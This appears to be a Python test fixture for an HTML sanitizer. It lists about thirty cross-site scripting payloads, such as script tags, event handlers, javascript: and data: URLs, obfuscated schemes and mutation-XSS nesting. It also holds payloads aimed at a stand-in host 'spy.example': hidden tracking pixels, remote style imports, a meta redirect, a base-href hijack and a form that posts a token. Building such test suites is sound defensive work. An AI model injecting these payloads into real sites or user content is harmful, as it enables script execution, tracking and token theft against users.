"""What is thrown at readers: our own score of attacks, and a collection beside us."""

from __future__ import annotations

import json
from pathlib import Path

SUITE = Path(__file__).resolve().parents[2].parent / "shared/suites/xss/payloads.jsonl"

PICTURE = "https://pictures.example/harbour.jpg"
SPIED = "spy.example"

OURS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    '<a href="javascript:alert(1)">run</a>',
    '<a href="&#1;java&#9;script&colon;alert(1)">run</a>',
    '<a href="\u2028javascript:alert(1)">run</a>',
    '<a href="data:text/html,<script>alert(1)</script>">run</a>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f'<object data="https://{SPIED}/a.swf"></object><embed src="//{SPIED}/b.swf">',
    f'<link rel="stylesheet" href="https://{SPIED}/a.css">',
    f"<style>@import 'https://{SPIED}/b.css'; * {{ display: none }}</style>",
    f'<p style="background: url(https://{SPIED}/c.png)">styled</p>',
    f'<meta http-equiv="refresh" content="0; url=https://{SPIED}/">',
    f'<base href="https://{SPIED}/"><a href="a">base</a>',
    f'<form action="https://{SPIED}/"><input name=token autofocus onfocus=alert(1)>',
    "<details open ontoggle=alert(1)><summary>open</summary></details>",
    "<math><mtext><table><mglyph><style><!--</style><b title='--><img src onerror=a()>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "]]><script>alert(1)</script><![CDATA[",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)",
    "</title></textarea></style></script><script>alert(1)</script>",
    f'<video poster="https://{SPIED}/d.png" src="https://{SPIED}/e.mp4" autoplay>',
    f'<img src="https://{SPIED}/f.gif" width="1px" height="1">',
    f'<img src="https://{SPIED}/g" style="border: 0; display: none">',
    f'<img src="https://pixel.{SPIED}/h"><img hidden src="https://{SPIED}/i.jpg">',
    f'<img srcset="https://{SPIED}/j.png 2x" alt="set" src="ftp://{SPIED}/k.png">',
    f'<p>Seen: <img src="{PICTURE}" alt="The harbour" usemap="#m"></p>',
    "<p id=main name=main is=x slot=y class=skip>clobbered</p>",
    "{{ 7 * 7 }}{% raw %}<b>template</b>",
)


def suite() -> list[str]:
    """Return the payloads of the collection; none where it is not beside us."""
    if not SUITE.exists():
        return []
    lines = SUITE.read_text("utf-8").split("\n")
    return [json.loads(line)["payload"] for line in lines if line]
